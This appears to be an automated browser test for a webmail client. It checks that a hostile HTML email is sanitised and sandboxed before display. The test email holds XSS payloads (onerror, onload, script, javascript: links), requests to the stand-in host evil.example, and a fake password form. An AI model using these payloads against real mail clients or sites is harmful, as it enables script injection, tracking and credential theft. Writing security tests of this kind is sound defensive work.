import assert from "node:assert/strict";
import { letter, openMail } from "../acts.mjs";

const SUBJECT = "<img src=x onerror=\"parent.harmed=1\"> & 'friends'";
const BODY = `<html><head><style>p{background:url(https://evil.example/style)}</style>
<link rel="stylesheet" href="https://evil.example/sheet"><meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<base href="https://evil.example/"></head><body onload="parent.harmed=2">
<script>parent.harmed = 3; fetch("https://evil.example/script")</script>
<img src="https://evil.example/pixel" onerror="parent.harmed=4" srcset="https://evil.example/set 2x">
<p style="background-image: url('https://evil.example/inline')">Readable words</p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>
<svg onload="parent.harmed=5"><image href="https://evil.example/svg"/></svg>
<video poster="https://evil.example/video" src="https://evil.example/film"></video>
<table background="https://evil.example/table"><tr><td>cell</td></tr></table>
<a href="javascript:parent.harmed=6" id="bad">bad link</a> <a href="https://customer.example/ok" id="good">good link</a>
</body></html>`;

export default async function ({ page, told, world, olivia, open }) {
  const outside = [];
  page.on(
    "request",
    (request) => request.url().startsWith("http") && !request.url().startsWith(told.page) && outside.push(request.url()),
  );
  page.on("dialog", (dialog) => outside.push(dialog.message()));
  await world(`/deliver?mailbox=${olivia.mailbox}`, { body: letter(SUBJECT, { type: "text/html", body: BODY }) });
  await open();
  await openMail(page, SUBJECT);
  const frame = page.frameLocator("iframe[title='Text of the mail']");
  await frame.getByText("Readable words").waitFor();
  await page.getByText("1 picture is not shown.").waitFor();
  assert.equal(await frame.locator("script,iframe,form,input,button,svg,video,link,meta,base").count(), 0);
  assert.equal(await frame.locator("#bad").getAttribute("href"), null);
  assert.equal(await frame.locator("#good").getAttribute("rel"), "noopener noreferrer");
  const allowed = (await page.locator("iframe[title='Text of the mail']").getAttribute("sandbox")).split(" ");
  assert.ok(
    !allowed.includes("allow-scripts") && !allowed.includes("allow-forms") && !allowed.includes("allow-top-navigation"),
  );

  // even what got past the cleaning could not run: the frame itself refuses
  await page.evaluate(() => {
    document.querySelector("iframe").contentDocument.body.innerHTML =
      "<img src='data:,' onerror='parent.harmed=7'><b>still there</b>";
  });
  await frame.getByText("still there").waitFor();
  await frame
    .locator("img")
    .evaluate((picture) => picture.complete || new Promise((done) => picture.addEventListener("error", done)));
  assert.equal(await page.evaluate(() => window.harmed), undefined);
  assert.deepEqual(outside, []);
  return /^Blocked script execution in 'about:srcdoc'/;
}
